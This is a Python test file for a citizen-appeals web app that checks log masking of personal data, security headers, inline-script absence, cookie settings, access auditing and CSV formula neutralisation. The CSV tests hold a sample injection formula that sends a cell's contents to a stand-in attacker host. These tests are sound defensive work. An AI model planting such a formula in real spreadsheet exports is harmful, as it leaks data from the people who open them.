"""Security and reliability: personal data never in the logs, security headers, no inline script, CSV cells
that cannot run as formulas."""

import csv
import io
import logging
import re
from pathlib import Path

from sqlalchemy import select
from sqlalchemy.exc import IntegrityError

from reception.accounts.models import Role
from reception.appeals import operations as appeal_ops
from reception.appeals.models import Citizen
from reception.audit.models import AuditEntry
from reception.errors import handle_unexpected
from reception.exports import safe_cell
from reception.extensions import db

IIN, PHONE, NAME, EMAIL = "900101300017", "+77011234567", "Сейткали Айгуль Болатовна", "aigul@example.kz"
TEMPLATES = Path(__file__).resolve().parent.parent / "templates"


def _citizen():
    return Citizen(
        iin=IIN,
        full_name=NAME,
        phone=PHONE,
        email=EMAIL,
        address="ул. Абая, 1",
        language="ru",
        consent_dt=appeal_ops.utcnow(),
        consent_version=appeal_ops.CONSENT_VERSION,
    )


def test_a_database_error_with_personal_data_leaves_none_in_the_log(app, caplog):
    """A duplicate citizen at the same moment is a real 500 of the kind that put 12 IINs into web.log."""
    with app.app_context():
        db.session.add(_citizen())
        db.session.commit()
        db.session.add(_citizen())
        try:
            db.session.commit()
        except IntegrityError as exc:
            error = exc
        else:
            raise AssertionError("the second citizen with the same IIN should be refused")
        with caplog.at_level(logging.INFO), app.test_request_context("/appeals/new", method="POST"):
            handle_unexpected(error)
            logging.getLogger("reception.test").info("citizen %s, phone %s, e-mail %s", IIN, "8 701 123 45 67", EMAIL)
    logged = caplog.text + "".join(r.getMessage() + (r.exc_text or "") for r in caplog.records)
    assert "unhandled error on POST /appeals/new" in logged  # the error itself is logged
    for secret in (IIN, PHONE, "701 123 45 67", NAME, EMAIL):
        assert secret not in logged, secret
    assert "********0017" in logged  # masked, yet records stay distinguishable


def test_every_page_sends_the_security_headers(client):
    response = client.get("/")
    csp = response.headers["Content-Security-Policy"]
    assert (
        "script-src 'self'" in csp
        and "frame-ancestors 'none'" in csp
        and "unsafe-inline" not in csp.split("script-src")[1].split(";")[0]
    )
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["X-Frame-Options"] == "DENY"
    assert response.headers["Referrer-Policy"] == "same-origin"
    assert "Strict-Transport-Security" not in response.headers  # plain HTTP here
    assert "Strict-Transport-Security" in client.get("/", base_url="https://localhost").headers


def test_no_template_has_an_inline_script_or_event_handler():
    for path in TEMPLATES.rglob("*.html"):
        text = path.read_text(encoding="utf-8")
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", text), f"{path}: inline <script>"
        assert not re.search(r"\son[a-z]+\s*=", text), f"{path}: inline event handler"


def test_the_session_cookie_is_secure_in_production(database_url, redis_url):
    from support import make_config

    from reception import create_app

    production = create_app(
        make_config(
            database_url,
            redis_url,
            ENV_NAME="production",
            SECRET_KEY="s" * 32,
            PIN_HMAC_KEY="p" * 32,
            SEALING_KEYS="k" * 43 + "=",
            PASSWORD_HASH_METHOD="scrypt",
            SESSION_COOKIE_SECURE=False,
        )
    )
    assert production.config["SESSION_COOKIE_SECURE"] is True


def test_spreadsheet_cells_never_start_a_formula():
    for dangerous in ('=HYPERLINK("http://x")', "+7 701", "-1+1", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(dangerous) == "'" + dangerous
    assert safe_cell("Нет воды") == "Нет воды" and safe_cell(None) == "" and safe_cell(12) == "12"


def test_the_queue_export_neutralises_a_citizens_formula(app, client, auth, make_user):
    from factories import user
    from test_deputy_queue import fill

    _, email = make_user(Role.deputy)
    with app.app_context():
        appeal = fill(user(email).deputy, 1)[0]
        appeal.summary = '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")'
        db.session.commit()
    auth.login(email)
    response = client.get("/deputy-queue/export.csv")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    summaries = [row[5] for row in rows[1:]]
    assert summaries == ['\'=HYPERLINK("http://evil.example/?"&A1,"Нажмите")']


def test_a_record_refused_to_a_signed_in_user_is_audited(app, client, auth, make_user):
    from factories import make_appeal

    with app.app_context():
        appeal_id = make_appeal(branch_code="AST-01").id
    _, email = make_user(Role.staff, "ALM-03")
    auth.login(email)
    assert client.get(f"/appeals/{appeal_id}").status_code == 404
    assert client.get("/accounts/users").status_code == 403
    assert client.get("/no-such-page").status_code == 404
    with app.app_context():
        denied = db.session.scalars(
            select(AuditEntry).where(AuditEntry.action == "access.denied").order_by(AuditEntry.id)
        ).all()
        assert [(e.details["status"], e.details["path"]) for e in denied] == [
            (404, f"/appeals/{appeal_id}"),
            (403, "/accounts/users"),
        ]
        assert denied[0].details["appeal_id"] == appeal_id and denied[0].user_id is not None


def test_pages_of_a_signed_in_user_are_not_cached(app, client, auth, make_user):
    _, email = make_user(Role.staff, "ALM-03")
    auth.login(email)
    for path in ("/appeals/", "/appeals/new", "/me"):
        assert client.get(path).headers["Cache-Control"] == "no-store", path


def test_an_expired_form_says_so_and_shows_back_what_was_typed(app, client, auth, make_user):
    _, email = make_user(Role.staff, "ALM-03")
    auth.login(email)
    client.get("/appeals/new")
    response = client.post(
        "/appeals/new",
        data={"csrf_token": "expired", "summary": "Нет воды третью неделю", "text": "Подробный рассказ жителя"},
        headers={"Referer": "http://localhost/appeals/new"},
    )
    page = response.get_data(as_text=True)
    assert response.status_code == 400 and "data-expired-form" in page
    assert "Нет воды третью неделю" in page and "Подробный рассказ жителя" in page
    assert 'href="/appeals/new"' in page
